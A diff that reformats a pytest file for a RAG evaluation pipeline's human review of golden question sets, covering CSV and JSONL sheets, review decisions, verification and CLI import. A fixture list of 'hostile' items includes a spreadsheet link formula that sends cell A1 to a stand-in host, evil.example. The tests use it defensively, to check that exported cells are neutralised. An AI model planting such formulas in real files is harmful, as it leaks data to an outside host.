@@ -82,10 +82,16 @@ def test_review_sheet_has_what_a_reviewer_needs(golden):
 
 @pytest.mark.parametrize("suffix", [".csv", ".jsonl"])
 def test_sheet_round_trips_commas_quotes_and_newlines(golden, tmp_path, suffix):
-    sheet = _sheet(golden, **{
-        LOGS.qa_id: {"decision": "edit", "edited_ground_truth": 'Logs: 90 days, then "deleted".\nNot the audit log.'},
-        BACKUPS.qa_id: {"decision": "reject", "reviewer_note": "too easy, and vague"},
-    })
+    sheet = _sheet(
+        golden,
+        **{
+            LOGS.qa_id: {
+                "decision": "edit",
+                "edited_ground_truth": 'Logs: 90 days, then "deleted".\nNot the audit log.',
+            },
+            BACKUPS.qa_id: {"decision": "reject", "reviewer_note": "too easy, and vague"},
+        },
+    )
     path = write_sheet(sheet, tmp_path / f"review{suffix}")
 
     back = read_sheet(path)
@@ -156,7 +162,10 @@ def test_items_missing_from_the_sheet_stay_unreviewed(golden, verify):
     result = apply_review(golden, sheet, verify)
 
     assert result.golden.set_index("qa_id")["review"].to_dict() == {
-        LOGS.qa_id: "accepted", BACKUPS.qa_id: "unreviewed", HOTEL.qa_id: "unreviewed", TOKYO.qa_id: "unreviewed",
+        LOGS.qa_id: "accepted",
+        BACKUPS.qa_id: "unreviewed",
+        HOTEL.qa_id: "unreviewed",
+        TOKYO.qa_id: "unreviewed",
     }
 
 
@@ -170,10 +179,13 @@ def test_accept_keeps_the_item_as_it_was(golden, verify):
     assert result.summary["accepted"] == 1
 
 
-@pytest.mark.parametrize("note, reason", [
-    ("too easy, duplicates the SLA item", "rejected by reviewer: too easy, duplicates the SLA item"),
-    ("", "rejected by reviewer: no note given"),
-])
+@pytest.mark.parametrize(
+    "note, reason",
+    [
+        ("too easy, duplicates the SLA item", "rejected by reviewer: too easy, duplicates the SLA item"),
+        ("", "rejected by reviewer: no note given"),
+    ],
+)
 def test_reject_moves_the_item_to_the_rejected_table(golden, verify, note, reason):
     sheet = _sheet(golden, **{HOTEL.qa_id: {"decision": "reject", "reviewer_note": note}})
 
@@ -189,7 +201,9 @@ def test_reject_moves_the_item_to_the_rejected_table(golden, verify, note, reaso
 
 def test_edit_of_the_question_makes_a_new_item(golden, verify):
     question = "For how many days, at most, are database backups kept?"
-    result = apply_review(golden, _sheet(golden, **{BACKUPS.qa_id: {"decision": "edit", "edited_question": question}}), verify)
+    result = apply_review(
+        golden, _sheet(golden, **{BACKUPS.qa_id: {"decision": "edit", "edited_question": question}}), verify
+    )
 
     assert BACKUPS.qa_id not in set(result.golden["qa_id"])
     edited = result.golden.iloc[1]  # in the place of the old item
@@ -197,14 +211,18 @@ def test_edit_of_the_question_makes_a_new_item(golden, verify):
     assert edited["qa_id"] != BACKUPS.qa_id
     assert edited["question"] == question and edited["ground_truth"] == BACKUPS.ground_truth
     assert edited["derived_from"] == BACKUPS.qa_id and edited["review"] == "edited"
-    assert list(edited["gold_chunk_ids"]) == ["retention.md#1"] and list(edited["gold_contexts"]) == [CHUNKS["retention.md#1"]]
+    assert list(edited["gold_chunk_ids"]) == ["retention.md#1"] and list(edited["gold_contexts"]) == [
+        CHUNKS["retention.md#1"]
+    ]
     assert result.rejected.empty
     assert result.summary["edited"] == 1
 
 
 def test_edit_of_only_the_ground_truth_still_gets_a_new_qa_id(golden, verify):
     truth = "Database backups are kept for 35 days in a separate region."
-    result = apply_review(golden, _sheet(golden, **{BACKUPS.qa_id: {"decision": "edit", "edited_ground_truth": truth}}), verify)
+    result = apply_review(
+        golden, _sheet(golden, **{BACKUPS.qa_id: {"decision": "edit", "edited_ground_truth": truth}}), verify
+    )
 
     edited = result.golden.iloc[1]
     assert edited["ground_truth"] == truth and edited["question"] == BACKUPS.question
@@ -221,7 +239,9 @@ def test_edited_qa_id_is_a_content_hash():
 
 def test_an_unsupported_edit_is_rejected_with_the_reason(golden, verify):
     truth = "Backups are kept for 30 days."  # the chunk says 35
-    result = apply_review(golden, _sheet(golden, **{BACKUPS.qa_id: {"decision": "edit", "edited_ground_truth": truth}}), verify)
+    result = apply_review(
+        golden, _sheet(golden, **{BACKUPS.qa_id: {"decision": "edit", "edited_ground_truth": truth}}), verify
+    )
 
     assert len(result.golden) == 3
     assert BACKUPS.qa_id not in set(result.golden["qa_id"])
@@ -258,11 +278,14 @@ def test_an_unanswerable_question_can_be_reworded_and_keeps_its_refusal(golden):
 
 
 def test_every_decision_in_one_sheet(golden, verify):
-    sheet = _sheet(golden, **{
-        LOGS.qa_id: {"decision": "accept"},
-        BACKUPS.qa_id: {"decision": "reject", "reviewer_note": "vague"},
-        HOTEL.qa_id: {"decision": "EDIT", "edited_question": "What is the nightly hotel cap in Zürich?"},
-    })
+    sheet = _sheet(
+        golden,
+        **{
+            LOGS.qa_id: {"decision": "accept"},
+            BACKUPS.qa_id: {"decision": "reject", "reviewer_note": "vague"},
+            HOTEL.qa_id: {"decision": "EDIT", "edited_question": "What is the nightly hotel cap in Zürich?"},
+        },
+    )
 
     result = apply_review(golden, sheet, verify)
 
@@ -287,11 +310,19 @@ def test_a_reviewed_set_can_be_reviewed_again(golden, verify):
 
 
 # A long quoted fill-in-the-blank: well formed, but a question a reviewer would rather rephrase.
-BLANK = _item(SIMPLE, ["travel.md#0"], 'According to "Travel", what value fills the blank in "The hotel cap is EUR '
-              '____ per night in Zürich, London and Paris, whatever the season and whatever the traveller\'s grade."?',
-              "The hotel cap is EUR 230 per night.")
-SHORT_BLANK = _item(SIMPLE, ["travel.md#0"], 'In "Travel", which value completes "The hotel cap is EUR ____ per night."?',
-                    "The hotel cap is EUR 230 per night.")
+BLANK = _item(
+    SIMPLE,
+    ["travel.md#0"],
+    'According to "Travel", what value fills the blank in "The hotel cap is EUR '
+    "____ per night in Zürich, London and Paris, whatever the season and whatever the traveller's grade.\"?",
+    "The hotel cap is EUR 230 per night.",
+)
+SHORT_BLANK = _item(
+    SIMPLE,
+    ["travel.md#0"],
+    'In "Travel", which value completes "The hotel cap is EUR ____ per night."?',
+    "The hotel cap is EUR 230 per night.",
+)
 
 
 def test_the_sheet_carries_each_items_quality_score(golden):
@@ -370,16 +401,30 @@ def test_a_golden_set_from_before_the_quality_stage_can_be_exported_and_reviewed
 # ---- bad sheets ------------------------------------------------------------------------------
 
 
-@pytest.mark.parametrize("cells, message", [
-    ({"decision": "maybe"}, r"row 2 \(qa_id \w+\): unknown decision 'maybe'; use accept, reject, edit"),
-    ({"decision": "edit"}, r"row 2 \(qa_id \w+\): decision edit needs edited_question or edited_ground_truth"),
-    ({"decision": "accept", "edited_question": "Another question?"}, r"row 2 .*edited text given but the decision is 'accept'"),
-    ({"decision": "", "edited_ground_truth": "Another answer."}, r"row 2 .*edited text given but the decision is 'blank'"),
-    ({"decision": "edit", "edited_question": BACKUPS.question + "  "}, r"row 2 .*changes neither the question nor the ground truth"),
-    ({"decision": "accept", "question": "Rewritten in place?"},
-     r"row 2 .*the question cell was changed; write the new text in edited_question"),
-    ({"decision": "accept", "ground_truth": "Changed in place."}, r"row 2 .*the ground_truth cell was changed"),
-])
+@pytest.mark.parametrize(
+    "cells, message",
+    [
+        ({"decision": "maybe"}, r"row 2 \(qa_id \w+\): unknown decision 'maybe'; use accept, reject, edit"),
+        ({"decision": "edit"}, r"row 2 \(qa_id \w+\): decision edit needs edited_question or edited_ground_truth"),
+        (
+            {"decision": "accept", "edited_question": "Another question?"},
+            r"row 2 .*edited text given but the decision is 'accept'",
+        ),
+        (
+            {"decision": "", "edited_ground_truth": "Another answer."},
+            r"row 2 .*edited text given but the decision is 'blank'",
+        ),
+        (
+            {"decision": "edit", "edited_question": BACKUPS.question + "  "},
+            r"row 2 .*changes neither the question nor the ground truth",
+        ),
+        (
+            {"decision": "accept", "question": "Rewritten in place?"},
+            r"row 2 .*the question cell was changed; write the new text in edited_question",
+        ),
+        ({"decision": "accept", "ground_truth": "Changed in place."}, r"row 2 .*the ground_truth cell was changed"),
+    ],
+)
 def test_bad_rows_are_named(golden, verify, cells, message):
     with pytest.raises(ValueError, match=message):
         apply_review(golden, _sheet(golden, **{BACKUPS.qa_id: cells}), verify)
@@ -486,11 +531,15 @@ def test_review_round_trip_then_diff_on_the_command_line(cli_env, tmp_path, caps
     rows = sheet.set_index("qa_id")
     rows.loc[LOGS.qa_id, "decision"] = "accept"
     rows.loc[BACKUPS.qa_id, ["decision", "reviewer_note"]] = ["reject", 'vague, "kept" is unclear']
-    rows.loc[HOTEL.qa_id, ["decision", "edited_question"]] = ["edit", "What is the nightly hotel cap in Zürich, per night?"]
+    rows.loc[HOTEL.qa_id, ["decision", "edited_question"]] = [
+        "edit",
+        "What is the nightly hotel cap in Zürich, per night?",
+    ]
     rows.reset_index().to_csv(sheet_path, index=False)
 
-    status = _rag_eval("review", "import", "--tenant", "acme", "--version", "v1", "--file", str(sheet_path),
-                       "--new-version", "v2")
+    status = _rag_eval(
+        "review", "import", "--tenant", "acme", "--version", "v1", "--file", str(sheet_path), "--new-version", "v2"
+    )
     out = capsys.readouterr()
     assert status == 0, out.err
     assert "1 accepted, 1 edited, 1 rejected, 0 edits failed verification, 1 unreviewed" in out.out
@@ -507,13 +556,20 @@ def test_review_round_trip_then_diff_on_the_command_line(cli_env, tmp_path, caps
     assert (manifest.source, manifest.parent_version, manifest.n_items) == ("review of v1", "v1", 3)
     assert manifest.content_hash == content_hash(golden)
     for name in ("raw_documents", "document_chunks", "chunk_clusters"):
-        assert warehouse.table_path("acme", "v2", name).read_bytes() == warehouse.table_path("acme", "v1", name).read_bytes()
+        assert (
+            warehouse.table_path("acme", "v2", name).read_bytes()
+            == warehouse.table_path("acme", "v1", name).read_bytes()
+        )
     assert local_instance().has_dynamic_partition("dataset_version", "v2")
     assert warehouse.read("acme", "v1", "golden_set")["qa_id"].tolist() == [i.qa_id for i in ITEMS]  # v1 untouched
 
     # v2 is published now: the same import cannot replace it.
-    assert _rag_eval("review", "import", "--tenant", "acme", "--version", "v1", "--file", str(sheet_path),
-                     "--new-version", "v2") == 2
+    assert (
+        _rag_eval(
+            "review", "import", "--tenant", "acme", "--version", "v1", "--file", str(sheet_path), "--new-version", "v2"
+        )
+        == 2
+    )
     assert "acme/v2 already has a published golden set" in capsys.readouterr().err
 
     diff_path = tmp_path / "diff.md"
@@ -535,8 +591,12 @@ def test_review_import_records_what_it_wrote_in_the_dagster_instance(cli_env, tm
 
     sheet_path = tmp_path / "review.csv"
     assert _rag_eval("review", "export", "--tenant", "acme", "--version", "v1", "--out", str(sheet_path)) == 0
-    assert _rag_eval("review", "import", "--tenant", "acme", "--version", "v1", "--file", str(sheet_path),
-                     "--new-version", "v2") == 0
+    assert (
+        _rag_eval(
+            "review", "import", "--tenant", "acme", "--version", "v1", "--file", str(sheet_path), "--new-version", "v2"
+        )
+        == 0
+    )
 
     instance, v2 = local_instance(), str(partition_key("acme", "v2"))
     [record] = instance.fetch_materializations(AssetKey("golden_set"), limit=10).records
@@ -555,8 +615,21 @@ def test_jsonl_review_import_with_an_unsupported_edit(cli_env, tmp_path, capsys)
     records[1].update(decision="edit", edited_ground_truth="Backups are kept for 30 days.")
     sheet_path.write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
 
-    assert _rag_eval("review", "import", "--tenant", "acme", "--version", "v1", "--file", str(sheet_path),
-                     "--new-version", "v2-reviewed") == 0
+    assert (
+        _rag_eval(
+            "review",
+            "import",
+            "--tenant",
+            "acme",
+            "--version",
+            "v1",
+            "--file",
+            str(sheet_path),
+            "--new-version",
+            "v2-reviewed",
+        )
+        == 0
+    )
 
     out = capsys.readouterr().out
     assert "1 edits failed verification" in out and "failed verification: ground truth not supported" in out
@@ -574,8 +647,12 @@ def test_a_bad_sheet_writes_nothing_and_exits_2(cli_env, tmp_path, capsys):
     sheet_path = tmp_path / "review.csv"
     write_sheet(_sheet(_golden(ITEMS), **{HOTEL.qa_id: {"decision": "approve"}}), sheet_path)
 
-    assert _rag_eval("review", "import", "--tenant", "acme", "--version", "v1", "--file", str(sheet_path),
-                     "--new-version", "v3") == 2
+    assert (
+        _rag_eval(
+            "review", "import", "--tenant", "acme", "--version", "v1", "--file", str(sheet_path), "--new-version", "v3"
+        )
+        == 2
+    )
 
     assert "row 3 " in capsys.readouterr().err
     assert not cli_env.partition_dir("acme", "v3").exists()
@@ -583,17 +660,26 @@ def test_a_bad_sheet_writes_nothing_and_exits_2(cli_env, tmp_path, capsys):
     assert local_instance().get_materialized_partitions(AssetKey("golden_set")) == set()  # nothing recorded
 
 
-@pytest.mark.parametrize("args, message", [
-    (("review", "import", "--tenant", "acme", "--version", "v1", "--file", "x.csv", "--new-version", "V2"),
-     "invalid dataset version name 'V2'"),
-    (("review", "import", "--tenant", "acme", "--version", "v1", "--file", "x.csv", "--new-version", "v1"),
-     "--new-version must differ from --version"),
-    (("review", "import", "--tenant", "acme", "--version", "v1", "--file", "missing.csv", "--new-version", "v9"),
-     "does not exist"),
-    (("review", "export", "--tenant", "acme", "--version", "v7", "--out", "x.csv"), "no 'golden_set' table"),
-    (("review", "export", "--tenant", "acme", "--version", "v1", "--out", "x.xlsx"), "use .csv or .jsonl"),
-    (("diff", "--tenant", "acme", "--from", "v1", "--to", "v8"), "no 'golden_set' table"),
-])
+@pytest.mark.parametrize(
+    "args, message",
+    [
+        (
+            ("review", "import", "--tenant", "acme", "--version", "v1", "--file", "x.csv", "--new-version", "V2"),
+            "invalid dataset version name 'V2'",
+        ),
+        (
+            ("review", "import", "--tenant", "acme", "--version", "v1", "--file", "x.csv", "--new-version", "v1"),
+            "--new-version must differ from --version",
+        ),
+        (
+            ("review", "import", "--tenant", "acme", "--version", "v1", "--file", "missing.csv", "--new-version", "v9"),
+            "does not exist",
+        ),
+        (("review", "export", "--tenant", "acme", "--version", "v7", "--out", "x.csv"), "no 'golden_set' table"),
+        (("review", "export", "--tenant", "acme", "--version", "v1", "--out", "x.xlsx"), "use .csv or .jsonl"),
+        (("diff", "--tenant", "acme", "--from", "v1", "--to", "v8"), "no 'golden_set' table"),
+    ],
+)
 @pytest.mark.cli
 def test_command_errors_exit_2_with_a_message(cli_env, tmp_path, monkeypatch, capsys, args, message):
     monkeypatch.chdir(tmp_path)
@@ -605,8 +691,11 @@ def test_an_unchanged_question_copied_into_the_edit_keeps_its_topic_and_score(ve
     from dataclasses import replace
 
     golden = _golden([replace(BACKUPS, topic="database backups")]).assign(quality_score=0.5)
-    edit = {"decision": "edit", "edited_question": BACKUPS.question,
-            "edited_ground_truth": "Database backups are kept for 35 days in a separate region."}
+    edit = {
+        "decision": "edit",
+        "edited_question": BACKUPS.question,
+        "edited_ground_truth": "Database backups are kept for 35 days in a separate region.",
+    }
 
     edited = apply_review(golden, _sheet(golden, **{BACKUPS.qa_id: edit}), verify).golden.iloc[0]
 
@@ -618,23 +707,35 @@ def test_an_unchanged_question_copied_into_the_edit_keeps_its_topic_and_score(ve
 
 def test_a_review_that_rejects_every_item_is_refused(golden, verify):
     sheet = _sheet(golden, **{item.qa_id: {"decision": "reject"} for item in ITEMS})
-    with pytest.raises(ValueError, match=r"the review keeps no item of the golden set \(4 rejected by the reviewer"
-                                         r"\): nothing to publish"):
+    with pytest.raises(
+        ValueError,
+        match=r"the review keeps no item of the golden set \(4 rejected by the reviewer"
+        r"\): nothing to publish",
+    ):
         apply_review(golden, sheet, verify)
 
 
 UNSUPPORTED = "The figure is 12 parsecs."  # no gold chunk says so: an edit to it fails verification
 
 
-@pytest.mark.parametrize("decisions, expected", [
-    ({}, {SIMPLE, UNANSWERABLE}),
-    # The reviewer removes every item of a type: a person's decision, not a broken generator or verifier.
-    ({i.qa_id: {"decision": "reject"} for i in (LOGS, BACKUPS, HOTEL)}, {UNANSWERABLE}),
-    ({TOKYO.qa_id: {"decision": "reject"}}, {SIMPLE}),
-    # The last item of the type is lost to a failed verification, not to the reviewer: still expected.
-    ({LOGS.qa_id: {"decision": "reject"}, BACKUPS.qa_id: {"decision": "reject"},
-      HOTEL.qa_id: {"decision": "edit", "edited_ground_truth": UNSUPPORTED}}, {SIMPLE, UNANSWERABLE}),
-])
+@pytest.mark.parametrize(
+    "decisions, expected",
+    [
+        ({}, {SIMPLE, UNANSWERABLE}),
+        # The reviewer removes every item of a type: a person's decision, not a broken generator or verifier.
+        ({i.qa_id: {"decision": "reject"} for i in (LOGS, BACKUPS, HOTEL)}, {UNANSWERABLE}),
+        ({TOKYO.qa_id: {"decision": "reject"}}, {SIMPLE}),
+        # The last item of the type is lost to a failed verification, not to the reviewer: still expected.
+        (
+            {
+                LOGS.qa_id: {"decision": "reject"},
+                BACKUPS.qa_id: {"decision": "reject"},
+                HOTEL.qa_id: {"decision": "edit", "edited_ground_truth": UNSUPPORTED},
+            },
+            {SIMPLE, UNANSWERABLE},
+        ),
+    ],
+)
 def test_a_planned_type_may_leave_the_golden_set_only_by_the_reviewers_rejection(golden, verify, decisions, expected):
     from rag_eval_pipeline.synthesis.items import MULTI_CONTEXT
     from rag_eval_pipeline.synthesis.review import types_expected_after_review
@@ -710,8 +811,11 @@ def _hostile(chunk_id, question, ground_truth, question_type=SIMPLE):
 
 
 HOSTILE = [
-    _hostile("formulas.md#0", '=HYPERLINK("http://evil.example/","what is this link formula?")',
-             '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details") is a link formula.'),
+    _hostile(
+        "formulas.md#0",
+        '=HYPERLINK("http://evil.example/","what is this link formula?")',
+        '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details") is a link formula.',
+    ),
     _hostile("formulas.md#1", "-5 degrees was the coldest reading on which day?", "-5 degrees, on 3 February."),
     _hostile("formulas.md#2", "@SUM(A1:A9) adds up which cells?", "@SUM(A1:A9) adds up the first nine cells."),
     _hostile("formulas.md#3", "+44 is the calling code of which country?", "+44 is the code of the United Kingdom."),
@@ -747,7 +851,9 @@ def test_a_csv_sheet_starts_no_cell_with_a_formula(tmp_path):
 
 
 def test_the_jsonl_sheet_keeps_the_text_as_it_is(tmp_path):
-    lines = write_sheet(review_sheet(_golden(HOSTILE)), tmp_path / "review.jsonl").read_text(encoding="utf-8").splitlines()
+    lines = (
+        write_sheet(review_sheet(_golden(HOSTILE)), tmp_path / "review.jsonl").read_text(encoding="utf-8").splitlines()
+    )
     assert [json.loads(line)["question"] for line in lines] == [item.question for item in HOSTILE]
 
 
@@ -777,7 +883,9 @@ def test_a_reviewers_text_is_taken_as_the_spreadsheet_shows_it(tmp_path, verify)
     path = write_sheet(review_sheet(golden), tmp_path / "review.csv")
     typed = {  # what a reviewer's program saved in edited_question
         HOSTILE[1].qa_id: "-5 degrees: on which day was it read?",  # a text editor: as typed
-        HOSTILE[2].qa_id: "'@SUM(A1:A9) adds which cells up?",  # a spreadsheet that kept the text mark it was typed with
+        HOSTILE[
+            2
+        ].qa_id: "'@SUM(A1:A9) adds which cells up?",  # a spreadsheet that kept the text mark it was typed with
         HOSTILE[3].qa_id: "'Plus 44' is the calling code of which country?",  # a quote that is no text mark
     }
     rows = _csv_cells(path)
@@ -814,8 +922,9 @@ def test_a_copy_of_a_marked_cell_in_an_edit_is_the_text_it_shows(tmp_path, verif
     item = HOSTILE[1]
     path = write_sheet(review_sheet(golden), tmp_path / "review.csv")
     rows = _csv_cells(path)
-    rows[1].update(decision="edit", edited_question=rows[1]["question"],
-                   edited_ground_truth="-5 degrees was read on 3 February.")
+    rows[1].update(
+        decision="edit", edited_question=rows[1]["question"], edited_ground_truth="-5 degrees was read on 3 February."
+    )
     assert rows[1]["edited_question"] == "'" + item.question
     pd.DataFrame(rows).to_csv(path, index=False, quoting=csv.QUOTE_ALL)
 
@@ -829,8 +938,18 @@ def test_a_copy_of_a_marked_cell_in_an_edit_is_the_text_it_shows(tmp_path, verif
 
 
 def _import(sheet_path, new_version="v2", version="v1") -> int:
-    return _rag_eval("review", "import", "--tenant", "acme", "--version", version, "--file", str(sheet_path),
-                     "--new-version", new_version)
+    return _rag_eval(
+        "review",
+        "import",
+        "--tenant",
+        "acme",
+        "--version",
+        version,
+        "--file",
+        str(sheet_path),
+        "--new-version",
+        new_version,
+    )
 
 
 def _one_error_line(capsys) -> str:
@@ -876,8 +995,10 @@ def test_a_reviewed_golden_set_that_fails_the_expectations_suite_is_not_publishe
 
 @pytest.mark.cli
 def test_losing_a_planned_type_to_failed_edits_is_refused(cli_env, tmp_path, capsys):
-    sheet = _sheet(_golden(ITEMS), **{i.qa_id: {"decision": "edit", "edited_ground_truth": UNSUPPORTED}
-                                      for i in (LOGS, BACKUPS, HOTEL)})
+    sheet = _sheet(
+        _golden(ITEMS),
+        **{i.qa_id: {"decision": "edit", "edited_ground_truth": UNSUPPORTED} for i in (LOGS, BACKUPS, HOTEL)},
+    )
 
     assert _import(write_sheet(sheet, tmp_path / "review.csv")) == 2
 
@@ -960,8 +1081,13 @@ def test_a_hostile_tenants_sheet_round_trips_through_the_command_line(cli_env, t
 @pytest.mark.cli
 def test_a_diff_written_as_csv_starts_no_cell_with_a_formula(cli_env, tmp_path):
     lay_out_version(cli_env, "acme", "h1", _golden(HOSTILE[:4]), chunks=HOSTILE_CHUNKS, planned={SIMPLE: 4})
-    sheet = _sheet(_golden(HOSTILE[:4]), **{HOSTILE[0].qa_id: {"decision": "reject"},
-                                            HOSTILE[1].qa_id: {"decision": "edit", "edited_question": "-6 degrees when?"}})
+    sheet = _sheet(
+        _golden(HOSTILE[:4]),
+        **{
+            HOSTILE[0].qa_id: {"decision": "reject"},
+            HOSTILE[1].qa_id: {"decision": "edit", "edited_question": "-6 degrees when?"},
+        },
+    )
     assert _import(write_sheet(sheet, tmp_path / "review.csv"), new_version="h2", version="h1") == 0
     out = tmp_path / "diff.csv"
 
